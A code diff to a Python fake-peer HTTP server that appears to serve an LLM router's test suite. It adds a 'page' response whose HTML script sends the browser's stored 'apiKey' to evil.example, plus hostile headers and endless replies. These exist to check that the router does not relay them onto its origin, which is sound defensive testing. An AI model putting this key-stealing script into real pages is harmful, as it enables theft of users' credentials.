@@ -9,8 +9,11 @@ What it answers depends on the path and the model asked for:
   a head with one header line that never ends; ``endless-header-lines``: header lines without
   end. Each stops once the router closes the connection (or after ``ENDLESS_BYTES``), and
   records in ``sent`` how much it managed to write.
+- model ``page`` (a ``POST``'s, or a ``GET``'s ``?model=``): a web page with a script, as
+  ``text/html``, that would run on the router's origin if relayed as it is.
 - any other ``POST``: a chat completion naming the model, with headers a peer must not get to
-  set on the router's origin (``Set-Cookie``...) beside ones a client may use.
+  set on the router's origin (``Set-Cookie``...) beside ones a client may use; with
+  ``"stream": true``, ``STREAM`` as an SSE answer.
 
 Every request's headers are kept in ``requests``.
 """
@@ -23,10 +26,11 @@ from collections.abc import Iterator, Sequence
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+from urllib.parse import parse_qs, urlsplit
 
 from tests.support.local_server import serving
 
-__all__ = ["ENDLESS_BYTES", "FakePeer", "running_fake_peer"]
+__all__ = ["ENDLESS_BYTES", "PAGE", "PAGE_MODEL", "STREAM", "FakePeer", "running_fake_peer"]
 
 ENDLESS_BYTES = 256 << 20
 _PIECE = 64 << 10
@@ -38,6 +42,12 @@ HOSTILE_HEADERS = {
     "Location": "https://peer.example/elsewhere",
 }
 KEPT_HEADERS = {"X-Ratelimit-Remaining-Requests": "99", "Retry-After": "3"}
+PAGE_MODEL = "page"
+PAGE = b"<!doctype html><script>fetch('//evil.example/?k='+localStorage.getItem('apiKey'))</script>"
+STREAM = (
+    b'data: {"object":"chat.completion.chunk","choices":[{"index":0,'
+    b'"delta":{"content":"from the fake peer"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'
+)
 
 
 class FakePeer:
@@ -66,6 +76,9 @@ class FakePeer:
 
             def do_GET(self) -> None:
                 peer.requests.append(("GET", self.path, _lowered(self.headers.items())))
+                if parse_qs(urlsplit(self.path).query).get("model") == [PAGE_MODEL]:
+                    self._send(200, "text/html; charset=utf-8", PAGE)
+                    return
                 if not self.path.endswith("/v1/models"):
                     self._json(404, {"error": {"code": 404, "message": "no such route"}})
                     return
@@ -77,7 +90,14 @@ class FakePeer:
             def do_POST(self) -> None:
                 peer.requests.append(("POST", self.path, _lowered(self.headers.items())))
                 body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
-                model = str(json.loads(body or b"{}").get("model", ""))
+                request = json.loads(body or b"{}")
+                model = str(request.get("model", ""))
+                if model == PAGE_MODEL:
+                    self._send(200, "text/html; charset=utf-8", PAGE)
+                    return
+                if request.get("stream"):
+                    self._send(200, "text/event-stream", STREAM)
+                    return
                 if model.startswith("endless-"):
                     self.close_connection = True
                     self._endless(model)
@@ -100,9 +120,13 @@ class FakePeer:
             def _json(
                 self, status: int, document: Any, extra: dict[str, str] | None = None
             ) -> None:
-                raw = json.dumps(document).encode()
+                self._send(status, "application/json", json.dumps(document).encode(), extra)
+
+            def _send(
+                self, status: int, media: str, raw: bytes, extra: dict[str, str] | None = None
+            ) -> None:
                 self.send_response(status)
-                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Type", media)
                 self.send_header("Content-Length", str(len(raw)))
                 for name, value in (extra or {}).items():
                     self.send_header(name, value)
